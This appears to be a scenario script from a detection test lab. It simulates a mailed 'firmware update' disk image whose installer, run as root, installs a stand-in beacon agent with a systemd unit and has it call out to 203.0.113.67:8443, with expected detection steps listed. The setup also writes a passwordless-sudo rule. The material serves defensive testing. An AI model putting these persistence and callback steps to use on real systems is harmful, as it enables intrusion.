title="Mailed disk image mounted with sudo, its installer run as root from the mount"
what="ops saves fw-update.img with mutt, mounts it by loop device on /mnt with sudo and runs /mnt/install.sh as root. It puts an agent below /opt with a systemd unit and starts it; the agent connects to 203.0.113.67 port 8443."
host=mx1.example.org user=ops daemons="cron sshd" store=mbox audit_rules=audit-wide.rules
setup() {
  mknod -m 660 /dev/loop-control c 10 237; for i in 0 1 2 3 4 5 6 7; do mknod -m 660 /dev/loop$i b 7 $i; done
  echo 'ops ALL=(ALL) NOPASSWD: ALL' > /etc/sudoers.d/ops; chmod 440 /etc/sudoers.d/ops
  mkdir -p "$base/out/iso" /etc/systemd/system
  cc -O1 -s -o "$base/out/iso/fwagent" "$lab/lib/stand-ins/beacon.c"
  printf '#!/bin/sh\nmkdir -p /opt/fwagent\ncp /mnt/fwagent /opt/fwagent/fwagentd\nchmod 755 /opt/fwagent/fwagentd\nprintf "[Service]\\nExecStart=/opt/fwagent/fwagentd\\n[Install]\\nWantedBy=multi-user.target\\n" > /etc/systemd/system/fwagent.service\ncd /\n/opt/fwagent/fwagentd 203.0.113.67 8443 >/dev/null &\nwait\necho updated\n' > "$base/out/iso/install.sh"
  chmod 755 "$base/out/iso"/*
  truncate -s 400K "$base/out/fw-update.img"; mkfs.ext2 -q -d "$base/out/iso" "$base/out/fw-update.img" || return 1
  printf 'set folder=/var/mail\nset sleep_time=0\nset move=no\n' > /home/ops/.muttrc; chown ops: /home/ops/.muttrc
}
act() {
  small_talk 2
  mail_in --from firmware@example.net --to ops@example.org --subject "Firmware update for your storage array" --attach "$base/out/fw-update.img:application/octet-stream"
  wait_log 'from=<firmware@example.net>'; sleep 2
  ssh_as ops <<'L'
%saves mutt
ls -l
file fw-update.img
sudo mount -o loop,ro fw-update.img /mnt
ls -l /mnt
sudo /mnt/install.sh
sudo umount /mnt
L
  small_talk 1
}
truth() {
  mail_step deliver 'to=<ops@example.org>.*status=sent' 'delivered'
  file_step save 'mutt open(at)?:write CREATE /home/ops/.*fw-update.img' 'saved'
  exec_step mount 'mount -o loop,ro fw-update.img /mnt' 'mounted'
  exec_step execute 'sh /mnt/install.sh' 'its installer runs as root'
  exec_step agent '/opt/fwagent/fwagentd 203.0.113.67 8443' 'an agent starts'
  net_step beacon '203.0.113.67:8443' 'and calls out'
}
